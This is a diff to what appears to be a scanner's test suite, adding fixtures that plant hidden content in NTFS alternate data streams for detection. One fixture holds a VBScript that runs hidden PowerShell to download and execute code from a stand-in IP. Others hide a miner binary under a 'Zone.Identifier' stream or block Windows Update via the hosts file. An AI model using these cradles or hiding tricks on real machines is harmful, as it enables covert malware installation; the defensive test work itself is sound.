@@ -10,6 +10,7 @@ internal static class WindowsPlacePlants
     private const string Hosts = "/Windows/System32/drivers/etc/hosts";
     private const string MachineProfile = "/Windows/System32/WindowsPowerShell/v1.0/profile.ps1";
     private const string UserProfile = "/Users/alice/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1";
+    private const string Note = "/ProgramData/notes.txt";
     private const uint HiddenSystem = 0x6;
 
     private static readonly PlantedPe s_miner = WindowsTaskPlants.Miner;
@@ -34,6 +35,11 @@ internal static class WindowsPlacePlants
             new("W-HOSTS", "quiet-update-blocked", PlantKind.Quiet, tree => tree.Append(Hosts, "0.0.0.0 update.microsoft.com\r\n127.0.0.1 download.windowsupdate.com\r\n")) { Rule = "protection-blocked", Entries = [Hosts] },
             new("W-HOSTS", "benign-own-names", PlantKind.Benign, tree => tree.Append(Hosts, "10.0.0.5 intranet.example build01\r\n192.168.65.2 host.docker.internal\r\n10.0.0.7 wsus.corp.example\r\n")),
             new("W-HOSTS", "benign-update-server-inside", PlantKind.Benign, tree => tree.Append(Hosts, "10.0.0.9 download.windowsupdate.com\r\n")),
+            new("W-ADS", "loud-cradle-behind-a-text", PlantKind.Loud, tree => tree.File(Note, "notes\r\n").File(Note + ":run.vbs", "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\", 0\r\n")) { Rule = "script" },
+            new("W-ADS", "quiet-program-behind-a-text", PlantKind.Quiet, tree => tree.File(Note, "notes\r\n").Pe(Note + ":x")) { Rule = "program", AtLeast = Severity.High },
+            new("W-ADS", "quiet-program-under-an-ordinary-name", PlantKind.Quiet, tree => tree.File(Note, "notes\r\n").Pe(Note + ":Zone.Identifier", s_miner)) { Rule = "program", AtLeast = Severity.High },
+            new("W-ADS", "benign-download-mark", PlantKind.Benign, tree => tree.File(Note, "notes\r\n").File(Note + ":Zone.Identifier", "[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=https://example.org/notes.txt\r\n")),
+            new("W-ADS", "benign-icon-of-a-bookmark", PlantKind.Benign, tree => tree.File("/Users/alice/Favorites/Site.url", "[InternetShortcut]\r\nURL=https://example.org/\r\n").File("/Users/alice/Favorites/Site.url:favicon", "\0\0\u0001\0\u0001\0")),
             new("W-EXECLOC", "quiet-system-name-in-fonts", PlantKind.Quiet, tree => tree.Pe("/Windows/Fonts/svchost.exe")) { AtLeast = Severity.Critical },
             new("W-EXECLOC", "quiet-miner-nobody-starts", PlantKind.Quiet, tree => tree.Pe("/ProgramData/Vendor/tool.exe", s_miner)) { Rule = "miner", AtLeast = Severity.Critical },
             new("W-EXECLOC", "quiet-packed-in-public", PlantKind.Quiet, tree => tree.Pe("/Users/Public/a.exe", new PlantedPe { Seed = "p", Sections = ("UPX0", "UPX1") })),
